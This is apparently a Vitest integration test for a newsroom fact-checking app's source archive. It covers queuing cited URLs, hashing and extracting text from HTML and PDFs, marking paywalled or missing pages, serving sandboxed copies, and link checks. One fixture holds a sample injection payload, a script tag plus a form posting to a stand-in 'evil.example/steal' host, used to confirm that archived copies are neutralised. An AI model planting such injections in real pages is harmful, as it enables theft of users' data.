// The source archive (issue 15, point 5) on a real PostgreSQL, against a local web server: a
// cited address is queued with the verdict's write, archived by the worker's task (hash, title,
// readable text, PDFs with their text), refused addresses are marked with a reason; the copy is
// served back sandboxed to members, and to anyone once a published page cites it; the link
// check flags the source dead when the server answers 404, changed when its text changed.
import { createHash } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';

vi.mock('@/lib/server/session', async (importOriginal) =>
  (await import('../support/signed-in')).sessionAs(await importOriginal()),
);
import { signedIn as session } from '../support/signed-in';

import { GET as memberCopyRoute } from '@/app/api/v1/snapshots/[id]/copy/route';
import { GET as pageRoute } from '@/app/p/[team]/[article]/route';
import { GET as publicCopyRoute } from '@/app/p/[team]/archive/[id]/route';
import { prisma } from '@/lib/db';
import { getReport } from '@/lib/server/reports/get-report';
import { publishArticle, unpublishArticle } from '@/lib/server/publications/publish-article';
import { getQueue } from '@/lib/server/queue/get-queue';
import { getSentence } from '@/lib/server/sentences/get-sentence';
import { runSourceArchive } from '@/lib/server/sources/archive';
import { countArticleSourceAlerts } from '@/lib/server/sources/snapshots';
import { LINK_CHECK_SAME_TEXT, runLinkCheck, sameTextShare } from '@/lib/server/sources/link-check';
import { approveVerdict } from '@/lib/server/verdicts/review-verdict';
import { setVerdict } from '@/lib/server/verdicts/set-verdict';
import { submitVerdict } from '@/lib/server/verdicts/submit-verdict';
import { makeNewsroom } from './fixtures';

const ARTICLE_TEXT =
  'Le rapport de l’Agence internationale de l’énergie atomique publié en juin confirme que la ' +
  'centrale a été inspectée trois fois cette année. Les inspecteurs ont relevé des écarts ' +
  'mineurs dans le registre des livraisons, sans conséquence sur la sûreté du site.';

function page(body: string, extra = ''): string {
  return `<!DOCTYPE html><html lang="fr"><head><meta charset="utf-8"><title>Rapport AIEA</title></head><body>${extra}<article><h1>Rapport AIEA</h1><p>${body}</p><p>${body}</p></article></body></html>`;
}

/** A minimal, valid one-page PDF whose text layer says `text`. */
function pdf(text: string): Buffer {
  const stream = `BT /F1 18 Tf 72 720 Td (${text}) Tj ET`;
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let out = '%PDF-1.4\n';
  const offsets: number[] = [];
  objects.forEach((object, i) => {
    offsets.push(out.length);
    out += `${i + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = out.length;
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const offset of offsets) out += `${String(offset).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

const HOSTILE_EXTRA =
  '<script>window.__pwned = 1</script><form action="https://evil.example/steal"><input name="x"></form>';

let server: Server;
let base = '';
let mode: 'normal' | 'gone' | 'changed' = 'normal';
const served = {
  html: Buffer.from(page(ARTICLE_TEXT, HOSTILE_EXTRA)),
  pdf: pdf('Bilan energetique 2024'),
};

beforeAll(async () => {
  process.env.IMPORT_ALLOW_PRIVATE_HOSTS = '1';
  server = createServer((request, response) => {
    if (request.url === '/rapport') {
      if (mode === 'gone') {
        response.writeHead(404, { 'content-type': 'text/html' }).end('<p>Introuvable</p>');
        return;
      }
      const body =
        mode === 'changed'
          ? Buffer.from(
              page('Cette page a été entièrement réécrite : il n’y a plus de rapport ici.'),
            )
          : served.html;
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(body);
    } else if (request.url === '/bilan.pdf') {
      response.writeHead(200, { 'content-type': 'application/pdf' }).end(served.pdf);
    } else if (request.url === '/abonnes') {
      response.writeHead(402, { 'content-type': 'text/html' }).end('Réservé aux abonnés');
    } else {
      response.writeHead(404).end();
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(async () => {
  delete process.env.IMPORT_ALLOW_PRIVATE_HOSTS;
  await new Promise((resolve) => server.close(resolve));
});

async function snapshotOf(teamId: string, url: string) {
  return prisma.sourceSnapshot.findUniqueOrThrow({ where: { teamId_url: { teamId, url } } });
}

describe('the source archive', () => {
  it('archives each cited address through the worker, with its hash, text and a stated reason otherwise', async () => {
    const { reviewer, reviewer2, editor, outsider, team, article, sentences } =
      await makeNewsroom();
    const sentence = sentences.find((s) => s.kind === 'sentence')!;
    const urls = [`${base}/rapport`, `${base}/bilan.pdf`, `${base}/abonnes`, `${base}/disparu`];
    await setVerdict({
      userId: reviewer.id,
      sentenceId: sentence.id,
      input: { rating: 'false', sources: urls.map((url) => ({ url })) },
    });
    // Queued with the verdict's write: a pending snapshot and a queue entry each.
    const pending = await prisma.sourceSnapshot.findMany({
      where: { teamId: team.id },
      select: { id: true, url: true, status: true },
    });
    expect(pending.map((s) => s.status)).toEqual(['pending', 'pending', 'pending', 'pending']);
    const queued = await prisma.$queryRaw<{ count: number }[]>`
      SELECT count(*)::int AS count FROM graphile_worker.jobs
       WHERE task_identifier = 'source_archive'
         AND key = ANY(${pending.map((s) => `archive:${s.id}`)}::text[])`;
    expect(queued[0]!.count).toBe(4);
    // Writing the same sources again queues nothing more.
    const again = await prisma.verdict.findFirstOrThrow({ where: { sentenceId: sentence.id } });
    await setVerdict({
      userId: reviewer.id,
      sentenceId: sentence.id,
      input: { rating: 'false', sources: urls.map((url) => ({ url })), version: again.version },
    });
    expect(await prisma.sourceSnapshot.count({ where: { teamId: team.id } })).toBe(4);

    for (const snapshot of pending) await runSourceArchive(snapshot.id);

    const html = await snapshotOf(team.id, urls[0]!);
    expect(html).toMatchObject({
      status: 'archived',
      reason: null,
      httpStatus: 200,
      contentType: 'text/html; charset=utf-8',
      title: 'Rapport AIEA',
      finalUrl: urls[0],
      size: served.html.byteLength,
      sha256: createHash('sha256').update(served.html).digest('hex'),
    });
    expect(html.text).toContain('la centrale a été inspectée trois fois');
    expect(html.text).not.toContain('__pwned');
    expect(Buffer.from(html.body!).equals(served.html)).toBe(true);
    const pdfSnapshot = await snapshotOf(team.id, urls[1]!);
    expect(pdfSnapshot).toMatchObject({ status: 'archived', contentType: 'application/pdf' });
    expect(pdfSnapshot.text).toContain('Bilan energetique 2024');
    expect(await snapshotOf(team.id, urls[2]!)).toMatchObject({
      status: 'unavailable',
      reason: 'paywall',
      httpStatus: 402,
      body: null,
    });
    expect(await snapshotOf(team.id, urls[3]!)).toMatchObject({
      status: 'unavailable',
      reason: 'not_found',
      httpStatus: 404,
    });

    // Members get the copy back, inert; others do not see it exists.
    session.userId = editor.id;
    const copy = await memberCopyRoute(new Request(`${base}/x`), {
      params: Promise.resolve({ id: html.id }),
    });
    expect(copy.status).toBe(200);
    expect(copy.headers.get('content-security-policy')).toMatch(/^sandbox; default-src 'none'/);
    expect(copy.headers.get('x-content-type-options')).toBe('nosniff');
    expect(Buffer.from(await copy.arrayBuffer()).equals(served.html)).toBe(true);
    session.userId = outsider.id;
    const refused = await memberCopyRoute(new Request(`${base}/x`), {
      params: Promise.resolve({ id: html.id }),
    });
    expect(refused.status).toBe(404);

    // Approved, the claim's report says « archivé le … » with the copy, and why the others
    // have none.
    const verdict = await prisma.verdict.findFirstOrThrow({ where: { sentenceId: sentence.id } });
    const sent = await submitVerdict({
      userId: reviewer.id,
      sentenceId: sentence.id,
      input: { version: verdict.version },
    });
    await approveVerdict({
      userId: reviewer2.id,
      verdictId: sent.id,
      input: { version: sent.version },
    });
    const text = await new Response(
      (
        await getReport({
          userId: editor.id,
          articleId: article.id,
          baseUrl: 'https://desk.example',
          query: { format: 'html' },
        })
      ).body as ReadableStream,
    ).text();
    expect(text).toContain(`href="https://desk.example/api/v1/snapshots/${html.id}/copy"`);
    expect(text).toMatch(/archivé le \d/);
    expect(text).toContain('non archivé : accès payant');
    expect(text).toContain('non archivé : page introuvable');

    // Published: anyone reads the copies the page cites, from the page's own links.
    const { url } = await publishArticle({
      userId: editor.id,
      articleId: article.id,
      baseUrl: 'https://desk.example',
    });
    const [, , teamSlug, articleSlug] = new URL(url!).pathname.split('/');
    session.userId = '';
    const publicPage = await (
      await pageRoute(new Request(url!), {
        params: Promise.resolve({ team: teamSlug!, article: articleSlug! }),
      })
    ).text();
    expect(publicPage).toContain(`href="https://desk.example/p/${teamSlug}/archive/${html.id}"`);
    const publicCopy = await publicCopyRoute(new Request(url!), {
      params: Promise.resolve({ team: teamSlug!, id: html.id }),
    });
    expect(publicCopy.status).toBe(200);
    expect(publicCopy.headers.get('content-security-policy')).toMatch(/^sandbox;/);
    await unpublishArticle({
      userId: editor.id,
      articleId: article.id,
      baseUrl: 'https://desk.example',
    });
    const withdrawn = await publicCopyRoute(new Request(url!), {
      params: Promise.resolve({ team: teamSlug!, id: html.id }),
    });
    expect(withdrawn.status).toBe(404);

    // The link check: unchanged → ok; 404 → dead; rewritten → changed.
    const now = Date.now();
    mode = 'normal';
    expect(await runLinkCheck({ now: new Date(now) })).toMatchObject({ dead: 0, changed: 0 });
    expect(await snapshotOf(team.id, urls[0]!)).toMatchObject({
      checkState: 'ok',
      checkStatus: 200,
    });
    mode = 'gone';
    // Not due yet: nothing re-fetched within the interval.
    expect((await runLinkCheck({ now: new Date(now + 3_600_000) })).checked).toBe(0);
    await runLinkCheck({ now: new Date(now + 25 * 3_600_000) });
    expect(await snapshotOf(team.id, urls[0]!)).toMatchObject({
      checkState: 'dead',
      checkStatus: 404,
    });
    mode = 'changed';
    await runLinkCheck({ now: new Date(now + 50 * 3_600_000) });
    const changed = await snapshotOf(team.id, urls[0]!);
    expect(changed.checkState).toBe('changed');
    expect(changed.checkSimilarity).toBeLessThan(LINK_CHECK_SAME_TEXT);
    // The archived copy itself never changes.
    expect(changed.sha256).toBe(html.sha256);
    mode = 'normal';

    // Flagged where its author looks: the sentence's panel, « Ma file », the article's notice.
    const detail = await getSentence({ userId: reviewer.id, sentenceId: sentence.id });
    expect(detail.archives).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          url: urls[0],
          status: 'archived',
          copyUrl: `/api/v1/snapshots/${html.id}/copy`,
          sha256: html.sha256,
          checkState: 'changed',
        }),
        expect.objectContaining({ url: urls[2], status: 'unavailable', reason: 'paywall' }),
      ]),
    );
    const queue = await getQueue({ userId: reviewer.id });
    expect(queue.sourceAlerts).toEqual([
      expect.objectContaining({
        url: urls[0],
        checkState: 'changed',
        sentence: expect.objectContaining({ id: sentence.id }),
      }),
    ]);
    expect((await getQueue({ userId: reviewer2.id })).sourceAlerts).toEqual([]);
    expect(await countArticleSourceAlerts({ userId: editor.id, articleId: article.id })).toBe(1);
    expect(await countArticleSourceAlerts({ userId: outsider.id, articleId: article.id })).toBe(0);
  });

  it('compares texts by the share of archived words still there', () => {
    expect(sameTextShare('un deux trois', 'un deux trois')).toBe(1);
    expect(sameTextShare('un deux trois quatre', 'un deux')).toBe(0.5);
    expect(sameTextShare('', 'quoi que ce soit')).toBe(1);
    expect(sameTextShare('Le Rapport', 'le rapport, mis en page autrement')).toBe(1);
  });
});
